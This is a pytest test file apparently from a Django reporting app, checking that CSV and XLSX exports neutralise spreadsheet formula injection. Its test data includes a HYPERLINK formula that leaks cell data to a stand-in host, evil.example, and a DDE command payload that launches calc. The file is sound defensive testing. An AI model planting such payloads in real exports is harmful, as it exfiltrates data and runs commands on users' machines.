"""Reporting exports (dashboard tables as CSV and XLSX, open data as CSV) never hand a
spreadsheet program a cell it would run as a formula: such text is prefixed by an
apostrophe, as the manifest reports do."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from masar.reporting.exports import rows_csv, table_csv, table_xlsx
from masar.reporting.selectors import Column, Table
from masar.reporting.services import indicators_refresh

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _table() -> Table:
    return Table(
        id="company",
        title="By company",
        columns=[Column("name", "@Company", "text"), Column("submitted", "Submitted")],
        rows=[
            {"name": HOSTILE, "submitted": 3},
            {"name": "+cmd|' /C calc'!A0", "submitted": -2},
            {"name": "-2+3", "submitted": 0},
            {"name": "\tTab", "submitted": 1},
            {"name": "Al Safa", "submitted": 7},
        ],
    )


def test_a_table_as_csv_neutralises_every_formula_cell():
    rows = list(csv.reader(io.StringIO(table_csv(_table()).decode("utf-8-sig"))))

    assert rows == [
        ["'@Company", "Submitted"],
        ["'" + HOSTILE, "3"],
        ["'+cmd|' /C calc'!A0", "-2"],
        ["'-2+3", "0"],
        ["'\tTab", "1"],
        ["Al Safa", "7"],
    ]


def test_a_table_as_xlsx_holds_text_not_formulas():
    sheet = load_workbook(io.BytesIO(table_xlsx(_table()))).active

    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert values == [
        ["'@Company", "Submitted"],
        ["'" + HOSTILE, 3],
        ["'+cmd|' /C calc'!A0", -2],
        ["'-2+3", 0],
        ["'\tTab", 1],
        ["Al Safa", 7],
    ]
    assert "f" not in types  # no cell is a formula


def test_open_data_csv_neutralises_formula_text():
    body = rows_csv(["city", "count"], [{"city": "=1+1", "count": 12}, {"city": None, "count": 3}])

    assert list(csv.reader(io.StringIO(body.decode()))) == [
        ["city", "count"],
        ["'=1+1", "12"],
        ["", "3"],
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_company_named_as_a_formula_is_exported_as_text(
    client, licensing_officer, recorded, company, fmt
):
    company.organization.name_en = HOSTILE
    company.organization.save(update_fields=["name_en"])
    indicators_refresh(season=recorded["season"])
    client.force_login(licensing_officer)
    client.cookies["django_language"] = "en"

    response = client.get(
        f"/reporting/export/company.{fmt}", {"season": "umrah-test"}, HTTP_ACCEPT_LANGUAGE="en"
    )

    assert response.status_code == 200
    if fmt == "csv":
        names = [r[0] for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        names = [row[0].value for row in sheet.iter_rows()]
        assert all(row[0].data_type != "f" for row in sheet.iter_rows())
    assert "'" + HOSTILE in names
    assert HOSTILE not in names
